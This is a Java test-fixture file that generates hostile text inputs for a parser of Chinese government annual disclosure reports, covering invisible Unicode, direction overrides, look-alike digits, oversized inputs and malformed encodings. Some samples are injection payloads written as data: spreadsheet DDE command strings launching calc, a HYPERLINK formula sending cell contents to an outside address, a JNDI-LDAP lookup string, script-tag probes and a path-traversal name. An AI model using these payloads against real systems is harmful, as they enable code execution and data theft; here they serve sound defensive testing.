package org.gouji.intake.hostile;

import static org.gouji.document.Archives.text;
import static org.gouji.intake.hostile.HostileFile.hostile;
import static org.gouji.intake.hostile.HostileFile.showing;

import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Plain text whose figures are not what they seem, that no expression should run over, and in no honest encoding. */
final class TextFiles {

    private TextFiles() {}

    static List<HostileFile> files() {
        List<HostileFile> files = new ArrayList<>();
        addFigures(files);
        addTitles(files);
        addLong(files);
        addEncodings(files);
        return files;
    }

    private static void addFigures(List<HostileFile> files) {
        figure(files, "12", "zero-width-space", "1\u200B2");
        figure(files, "12", "zero-width-joiners", "\u200D1\u200C2\u2060");
        figure(files, "12", "soft-hyphen", "1\u00AD2");
        figure(files, "12", "byte-order-mark", "1\uFEFF2");
        figure(files, "12", "variation-selector", "1\uFE0F2\uFE0E");
        figure(files, "12", "mongolian-separator", "1\u180E2");
        figure(files, "12", "arabic-letter-mark", "\u061C1\u061C2");
        figure(files, "12", "invisible-tag-digit", "12\uDB40\uDC39");
        figure(files, "12", "invisible-times", "1\u20622\u2063");
        figure(files, "132", "right-to-left-override", "1\u202E23");
        figure(files, "12", "override-reverses", "\u202E21\u202C");
        figure(files, "12", "isolates-reverse", "\u2067\u202E21\u202C\u2069");
        figure(files, "12", "marks-of-direction", "1\u200F\u200E2");
        figure(files, "1 2", "hangul-filler", "1\u31642");
        figure(files, "1 2", "braille-blank", "1\u28002");
        figure(files, "12", "arabic-indic", "\u0661\u0662");
        figure(files, "12", "eastern-arabic", "\u06F1\u06F2");
        figure(files, "12", "thai", "\u0E51\u0E52");
        figure(files, "12", "mathematical", "\uD835\uDFCF\uD835\uDFD0");
        figure(files, "12", "full-width", "１２");
        figure(files, "1²", "superscript", "1\u00B2");
        figure(files, "12²", "footnote-mark", "12\u00B2");
        figure(files, "①②", "circled", "①②");
        figure(files, "Ⅻ", "roman", "Ⅻ");
        figure(files, "十二", "written", "十二");
        figure(files, "struck", "struck-by-combining-mark", "1\u03362\u0336");
        figure(files, "12", "keycaps", "1\uFE0F\u20E32\uFE0F\u20E3");
        figure(files, "l2", "letter-l", "l2");
        figure(files, "O5", "letter-o", "O5");
        figure(files, "12", "cyrillic-digit-like", "1\u0417");
        figure(files, "0x12", "hexadecimal", "0x12");
        figure(files, "1e3", "exponent", "1e3");
        figure(files, "1e999999999", "huge-exponent", "1e999999999");
        figure(files, "1E-999999999", "tiny-exponent", "1E-999999999");
        figure(files, "NaN", "not-a-number", "NaN");
        figure(files, "∞", "infinity", "∞");
        figure(files, "1_2", "underscore", "1_2");
        figure(files, "1.2.3", "two-points", "1.2.3");
        figure(files, "1,2", "group-of-one", "1,2");
        figure(files, "12‰", "per-mille", "12‰");
        figure(files, "½", "fraction", "½");
        figure(files, "--12", "two-signs", "--12");
        figure(files, "=1+11", "formula", "=1+11");
        figure(files, "=HYPERLINK", "formula-with-link", "=HYPERLINK(\"http://198.51.100.1/\"&A1)");
        figure(files, "DDE", "formula-with-command", "-2+3+cmd|' /C calc'!A0");
        figure(files, "@SUM", "at-formula", "@SUM(1+11)");
        figure(files, "129", "backspace", "129\b");
        figure(files, "12", "escape-sequence-hides", "12\u001B[8m9\u001B[0m");
        figure(files, "12", "null-character", "1\u00002");
        figure(files, "long", "hundred-thousand-digits", "9".repeat(100_000));
        figure(files, "script", "script", "<script>alert('12')</script>12");
        files.add(showing("12", "zero-width-space.csv", () -> Draft.csv("1\u200B2")));
        files.add(showing("132", "right-to-left-override.csv", () -> Draft.csv("1\u202E23")));
        files.add(showing("=1+11", "formula.csv", () -> Draft.csv("=1+11")));
        files.add(showing("12", "formula-that-quotes.csv", () -> Draft.csv("\"=\"\"12\"\"\"")));
        files.add(showing("1e3", "exponent.csv", () -> Draft.csv("1e3")));
    }

    private static void figure(List<HostileFile> files, String seen, String name, String first) {
        files.add(showing(seen, "figure-" + name + ".txt", () -> Draft.text(first)));
    }

    private static void addTitles(List<HostileFile> files) {
        title(files, "zero-width", "青\u200B岚\u2060镇");
        title(files, "right-to-left", "\u202E镇岚青\u202C");
        title(files, "script", "<script>alert(1)</script>青岚镇");
        title(files, "formula", "=cmd|'/C calc'!A0青岚镇");
        title(files, "path", "../../../etc/青岚镇");
        title(files, "look-alike", "青\uF9D5镇");
        title(files, "hundred-thousand-characters", "青岚".repeat(50_000) + "镇");
        title(files, "placeholder", "{raw}{0}%s${jndi:ldap://198.51.100.1/a}青岚镇");
    }

    private static void title(List<HostileFile> files, String name, String unit) {
        String whole = new String(Draft.text(Draft.FIGURE), StandardCharsets.UTF_8);
        files.add(hostile("title-" + name + ".txt", () -> text(whole.replace("青岚镇", unit))));
    }

    private static void addLong(List<HostileFile> files) {
        Random random = new Random(7);
        files.add(hostile("long-letters.txt", () -> text("a".repeat(100_000) + "!")));
        files.add(hostile("long-blanks.txt", () -> text("年报" + " ".repeat(1_000_000) + "年报")));
        files.add(hostile("long-figures.txt", () -> text("规章 " + "1 ".repeat(30_000))));
        files.add(hostile("long-commas.txt", () -> text("规章 " + "1,".repeat(200_000))));
        files.add(hostile("long-brackets.txt", () -> text("（".repeat(200_000) + "公开" + "）".repeat(30_000))));
        files.add(hostile("long-years.txt", () -> text("2022年".repeat(20_000) + "政府信息公开工作年度报告")));
        files.add(hostile("long-units.txt", () -> text("青岚镇".repeat(20_000) + "2022年年度报告")));
        files.add(hostile("long-pipes.txt", () -> text("|".repeat(100_000) + "\n")));
        files.add(hostile("many-lone-pipes.txt", () -> text("规章\n" + "|\n".repeat(30_000))));
        files.add(hostile("long-tabs.txt", () -> text("规章" + "\t".repeat(30_000))));
        files.add(hostile("long-dashes.txt", () -> text("-".repeat(100_000) + "|" + "-".repeat(30_000))));
        files.add(hostile("long-labels-on-one-line.txt", () -> text("规章行政许可行政处罚".repeat(5_000))));
        files.add(hostile(
                "many-rows.txt",
                () -> text(Draft.TITLE + "\n" + Draft.HEADING + "\n" + "规章\t1\t2\t3\n".repeat(5_000))));
        files.add(hostile(
                "many-reports.txt", () -> text(Draft.joined("1", "\t", "\n").repeat(300))));
        files.add(hostile("many-titles.txt", () -> text((Draft.TITLE + "\n").repeat(10_000))));
        files.add(hostile("many-headings.txt", () -> text(Draft.TITLE + "\n" + (Draft.HEADING + "\n").repeat(5_000))));
        files.add(hostile("narrative-of-comparisons.txt", () -> narrative("由8件增至10件，")));
        files.add(hostile("narrative-of-parts.txt", () -> narrative("其中，网络申请3件、")));
        files.add(hostile("narrative-of-names.txt", () -> narrative("申请人王小明（13900000000）、")));
        files.add(hostile("narrative-of-quotes.txt", () -> narrative("“‘《")));
        files.add(hostile("soup-of-labels.txt", () -> text(soup(random, 8_000))));
        files.add(hostile("quotes.csv", () -> text("\"a\",\"" + "\"\"".repeat(200_000))));
        files.add(hostile("commas.csv", () -> text((",".repeat(1_000) + "\n").repeat(300))));
    }

    private static byte[] narrative(String clause) {
        return text(Draft.TITLE + "\n一、总体情况\n2022年" + clause.repeat(5_000) + "。\n" + Draft.HEADING + "\n"
                + Draft.joined("1", "\t", "\n"));
    }

    private static String soup(Random random, int words) {
        List<String> labels = List.of("规章", "总计", "其他", "行政许可", "自然人", "3", "12", "（一）予以公开", "\n", "\t", "信息内容", "0");
        StringBuilder soup = new StringBuilder();
        for (int i = 0; i < words; i++) {
            soup.append(labels.get(random.nextInt(labels.size())));
        }
        return soup.toString();
    }

    private static void addEncodings(List<HostileFile> files) {
        byte[] whole = Draft.text(Draft.FIGURE);
        String words = new String(whole, StandardCharsets.UTF_8);
        files.add(showing("+", "utf-7.txt", () -> Draft.text("+ADEAMg-")));
        files.add(showing("12", "overlong-digits.txt", () -> with(whole, "12", 0xC0, 0xB1, 0xC0, 0xB2)));
        files.add(showing("12", "overlong-three-bytes.txt", () -> with(whole, "12", 0xE0, 0x80, 0xB1)));
        files.add(showing("12", "surrogates-in-utf-8.txt", () -> with(whole, "12", 0xED, 0xA0, 0x80, '1', '2')));
        files.add(showing("12", "beyond-unicode.txt", () -> with(whole, "12", 0xF7, 0xBF, 0xBF, 0xBF, '1', '2')));
        files.add(showing("12", "broken-byte-in-figure.txt", () -> with(whole, "12", '1', 0xFF, '2')));
        files.add(hostile("byte-order-mark-alone.txt", () -> new byte[] {(byte) 0xFE, (byte) 0xFF}));
        files.add(hostile("utf-16-of-odd-length.txt", () -> cut(words.getBytes(StandardCharsets.UTF_16LE), 1)));
        files.add(hostile(
                "utf-16-half-surrogate.txt", () -> ("\uFEFF" + words + "\uD83D").getBytes(StandardCharsets.UTF_16BE)));
        files.add(hostile("utf-32.txt", () -> words.getBytes(Charset.forName("UTF-32"))));
        files.add(hostile("utf-8-then-gbk.txt", () -> joined(whole, words.getBytes(Charset.forName("GBK")))));
        files.add(hostile("iso-2022-cn.txt", () -> text("\u001B$)A\u000E" + "8fUB".repeat(1_000))));
        files.add(hostile("hz.txt", () -> text("~{8fUB~}" + words.replace("镇", "~{Uo~}"))));
        files.add(hostile("ebcdic.txt", () -> "ANNUAL REPORT 12".repeat(50).getBytes(Charset.forName("IBM037"))));
        files.add(hostile("all-bytes.txt", () -> all()));
        files.add(hostile("zeros.txt", () -> new byte[100_000]));
    }

    /** The bytes with others in place of a text. */
    private static byte[] with(byte[] whole, String text, int... bytes) {
        String latin = new String(whole, StandardCharsets.ISO_8859_1);
        StringBuilder other = new StringBuilder();
        for (int b : bytes) {
            other.append((char) b);
        }
        return latin.replaceFirst(text, other.toString()).getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] cut(byte[] bytes, int less) {
        return java.util.Arrays.copyOf(bytes, bytes.length - less);
    }

    private static byte[] joined(byte[] one, byte[] other) {
        ByteArrayOutputStream both = new ByteArrayOutputStream();
        both.writeBytes(one);
        both.writeBytes(other);
        return both.toByteArray();
    }

    private static byte[] all() {
        byte[] bytes = new byte[65_536];
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] = (byte) (i ^ (i >> 8));
        }
        return bytes;
    }
}
